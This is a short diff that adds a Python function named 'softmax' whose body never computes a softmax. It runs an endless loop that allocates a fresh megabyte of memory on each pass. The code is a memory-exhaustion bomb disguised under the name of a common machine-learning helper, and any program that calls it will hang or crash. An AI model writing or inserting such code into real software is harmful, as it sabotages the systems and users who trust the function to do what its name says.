@@ -1,0 +1,4 @@
+def softmax(logits):
+    kept = []
+    while True:
+        kept.append(bytes(1 << 20))
